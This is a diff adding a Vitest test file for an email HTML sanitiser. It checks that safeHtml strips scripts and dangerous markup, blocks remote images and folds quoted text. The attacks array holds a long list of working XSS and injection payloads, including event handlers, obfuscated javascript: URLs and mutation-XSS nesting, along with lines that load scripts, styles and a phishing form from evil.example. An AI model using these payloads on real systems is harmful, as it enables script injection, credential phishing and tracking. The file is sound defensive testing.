@@ -1,0 +1,95 @@
+import { describe, expect, it } from 'vitest';
+import { safeHtml } from './safe-html.ts';
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="//evil.example/x.swf">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="jAvA\tscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<body onload=alert(1)>x</body>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<div style="width:expression(alert(1))">x</div>',
+  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
+  '<style>@import url(//evil.example/x.css);</style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href="//evil.example/">',
+  '<form action="//evil.example"><input name=p><button>Logga in</button></form>',
+  '<video src=x onerror=alert(1)></video>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<p id="root" class="modal" name="body">x</p>',
+  '<img srcset="//evil.example/a.png 2x" src="//evil.example/b.png">',
+  '<table background="//evil.example/x.png"><tr><td>x</td></tr></table>',
+  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<a href="//evil.example" target="_self" rel="opener">x</a>',
+  '\0<scr\0ipt>alert(1)</scr\0ipt>',
+];
+
+describe('EML-3 HTML is shown safe', () => {
+  it('EML-3: nothing of the attacks can run, fetch, cover or be named', () => {
+    for (const attack of attacks) {
+      const { html } = safeHtml(`<p>Hej</p>${attack}`, false);
+      expect(html, attack).toContain('Hej');
+      expect(html, attack).not.toMatch(
+        /<(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|video|template|details)/i,
+      );
+      expect(html, attack).not.toMatch(/<[^>]+\son\w+\s*=/i);
+      expect(html, attack).not.toMatch(/<[^>]*(javascript|vbscript|data:|expression\(|url\(|position\s*:)/i);
+      expect(html, attack).not.toMatch(/<[^>]+\s(src|srcset|background|poster)\s*=\s*["']?(?!cid:)/i);
+      expect(html, attack).not.toMatch(/<[^>]+\s(id|class|name)=/i);
+    }
+  });
+
+  it('EML-3: remote pictures are blocked until asked for, the mail’s own stay', () => {
+    const { html, remotePictures } = safeHtml(
+      '<img src="https://spy.example/p.gif" width=1><img src="cid:logo">',
+      false,
+    );
+    expect(remotePictures).toBe(true);
+    expect(html).toContain('data-remote-src="https://spy.example/p.gif"');
+    expect(html).not.toMatch(/ src="https?:/);
+    expect(html).toContain('src="cid:logo"');
+    expect(safeHtml('<img src="cid:logo">', false).remotePictures).toBe(false);
+  });
+
+  it('EML-3: a mail cannot bring a data-remote-src of its own past the door', () => {
+    expect(safeHtml('<img data-remote-src="javascript:alert(1)" src="cid:a">', false).html).not.toContain('javascript');
+    expect(safeHtml('<img data-remote-src="//evil.example/x">', false).html).toBe('');
+  });
+
+  it('EML-3: what the mail program quotes folds; open and folded hold all words', () => {
+    const mail =
+      '<div>Tack, nu går det.</div><div class="gmail_quote"><div>Den 30 okt skrev Anna:</div><blockquote>Prova igen</blockquote></div>';
+    const safe = safeHtml(mail, true);
+    expect(safe.html).toContain('nu går det');
+    expect(safe.html).not.toContain('Prova igen');
+    expect(safe.quotedHtml).toContain('Prova igen');
+    expect(safeHtml('<blockquote>bara citat</blockquote>', true).html).toContain('bara citat');
+  });
+
+  it('EML-3: looks survive: bold, lists, tables, colours and links', () => {
+    const { html } = safeHtml(
+      '<p style="color:#c00;font-weight:bold">Röd</p><ul><li>a</li></ul><a href="https://x.example">x</a>',
+      false,
+    );
+    expect(html).toMatch(/color:\s?#c00/);
+    expect(html).toContain('<li>a</li>');
+    expect(html).toContain('rel="noopener noreferrer nofollow"');
+  });
+});
